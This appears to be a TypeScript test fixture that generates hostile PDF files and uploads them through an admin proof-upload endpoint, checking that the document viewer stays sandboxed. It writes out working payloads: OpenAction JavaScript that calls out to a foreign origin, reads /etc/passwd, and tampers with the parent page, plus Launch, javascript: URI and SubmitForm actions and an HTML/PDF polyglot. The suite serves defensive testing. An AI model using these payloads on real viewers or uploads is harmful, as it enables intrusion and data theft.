/** PDF files that do what a document may ask of its viewer. Each says `ended` once it has tried everything. */
import { jeanne, type TestWorld } from "@palier/mock-server/playwright";

/** What a document's viewer asks of the person who looks: nothing stops that but a sandbox, in which no viewer starts. */
export const ended = "tout est essayé";

export interface HostilePdf {
  readonly name: string;
  /** Must be pressed in its middle to begin. */
  readonly isPressed?: true;
  /** Actions without a script come first: pdf.js takes none of them, and nothing that follows one. */
  readonly needsActions?: true;
  readonly body: string;
}

const text = (value: string): string => `(${value.replaceAll(/[\\()]/g, "\\$&")})`;
const action = (kind: string, entries: string): string => `<< /S /${kind} ${entries} >>`;
const script = (code: string): string => action("JavaScript", `/JS ${text(code)}`);
const say = `app.alert("${ended}")`;

/** In turn, each by the `Next` of the one before. */
const inTurn = (actions: readonly string[]): string =>
  actions.reduceRight((next, each) => each.replace(/ >>$/, ` /Next ${next} >>`));

const catalog = "1 0 R";
const page = "3 0 R";
/** Objects 1 to 5 are every document's; those of an attack begin at 6. */
const own = "6 0 R";
const embedded = "7 0 R";

/** A document of one page, with a form's field over all of it where an attack needs one. */
function pdf(entries: string, field = "", head = ""): string {
  const shown = "BT /F 20 Tf 40 740 Td (Justificatif) Tj ET";
  const html = "<script>parent.document.documentElement.dataset.attacked='embedded'</script>";
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${own}] /DA (/F 12 Tf 0 g) >> /Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) /EF << /F ${embedded} >> >>] >> >> ${entries} >>`,
    `<< /Type /Pages /Kids [${page}] /Count 1 >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Annots [${own}] /Resources << /Font << /F 5 0 R >> >> >>`,
    `<< /Length ${shown.length} >>\nstream\n${shown}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /Type /Annot /Rect [0 0 600 800] /P ${page} ${field === "" ? "/Subtype /Widget /FT /Tx /T (nom) /V (Baptiste Denis) /F 2" : field} >>`,
    `<< /Type /EmbeddedFile /Subtype /text#2Fhtml /Length ${html.length} >>\nstream\n${html}\nendstream`,
  ];
  let file = `%PDF-1.7\n${head}`;
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const size = objects.length + 1;
  return `${file}xref\n0 ${size}\n0000000000 65535 f \n${places.join("")}trailer\n<< /Size ${size} /Root ${catalog} >>\nstartxref\n${file.length}\n%%EOF\n`;
}

/** Every way out that a document's script may know, one by one. */
const reach = (foreign: string, ours: string): string =>
  [
    `app.launchURL("${foreign}/launch", true)`,
    `app.launchURL("${foreign}/launch-here", false)`,
    `getURL("${foreign}/get")`,
    `submitForm("${foreign}/submit")`,
    `submitForm({ cURL: "${foreign}/submit-as", cSubmitAs: "HTML" })`,
    `submitForm("${ours}")`,
    `app.openDoc("${foreign}/open.pdf")`,
    `importDataObject("b", "/etc/passwd")`,
    `exportDataObject({ cName: "a.html", nLaunch: 2 })`,
    `Net.HTTP.request({ cVerb: "GET", cURL: "${foreign}/net" })`,
    `SOAP.request({ cURL: "${foreign}/soap", oRequest: {}, cAction: "" })`,
    `fetch("${foreign}/fetch")`,
    `top.location = "${foreign}/top"`,
    `parent.document.documentElement.dataset.attacked = "pdf"`,
    `localStorage.setItem("attacked", "pdf")`,
    `eval("parent.document.documentElement.dataset.attacked = 'eval'")`,
  ]
    .map((each) => `try { ${each} } catch (e) {}`)
    .join(" ");

/** Every action that a document may ask for without a script. */
const actions = (foreign: string, ours: string): readonly string[] => [
  action("URI", `/URI ${text(`${foreign}/uri`)}`),
  action("URI", `/URI ${text("javascript:top.document.documentElement.dataset.attacked='uri'")}`),
  action("SubmitForm", `/F << /FS /URL /F ${text(`${foreign}/submit-form`)} >> /Flags 4`),
  action("SubmitForm", `/F << /FS /URL /F ${text(ours)} >> /Flags 4`),
  action("GoToR", `/F << /FS /URL /F ${text(`${foreign}/remote.pdf`)} >> /D [0 /Fit]`),
  action("GoToE", "/T << /R /C /N (a.html) >> /D [0 /Fit] /NewWindow true"),
  action("Launch", `/F ${text(`${foreign}/launch.exe`)} /NewWindow true`),
  action("ImportData", `/F << /FS /URL /F ${text(`${foreign}/data.fdf`)} >>`),
];

/** @param foreign an origin that hears nothing @param ours an address that changes something with the admin's session */
export function hostilePdfs(foreign: string, ours: string): readonly HostilePdf[] {
  const all = inTurn([...actions(foreign, ours), script(`${reach(foreign, ours)} ${say}`)]);
  const button = `/Subtype /Widget /FT /Btn /Ff 65536 /T (b) /A ${all}`;
  const html = `<script>parent.document.documentElement.dataset.attacked="polyglot"</script><img src="${foreign}/img">`;
  return [
    {
      name: "a script that runs as it is opened",
      body: pdf(`/OpenAction ${script(`${reach(foreign, ours)} ${say}`)}`),
    },
    {
      name: "actions that run as it is opened",
      needsActions: true,
      body: pdf(`/OpenAction ${inTurn([...actions(foreign, ours), script(say)])}`),
    },
    { name: "a button over all of its page", isPressed: true, needsActions: true, body: pdf("", button) },
    {
      name: "a page of HTML in front of its own bytes",
      body: pdf(`/OpenAction ${script(say)}`, "", `% <html>${html}</html>\n`),
    },
  ];
}

/** As a resident's file that an admin enters: stored, and answered by the server itself. @throws Error if refused */
export async function uploadProof(world: TestWorld, tie: number, body: string): Promise<void> {
  await world.patch("ula", tie, { status: "pending" });
  const admin = world.admin(jeanne);
  const path = `/api/admin/user-lot-association/proof-upload/${tie}`;
  const { values } = JSON.parse((await admin.get(path)).text ?? "{}");
  const file = { fileName: "quittance.pdf", content: Buffer.from(body, "latin1").toString("base64") };
  const { status, text } = await admin.post(path, { ...values, file });
  if (status !== 200) throw new Error(`${status} to the upload: ${text}`);
}
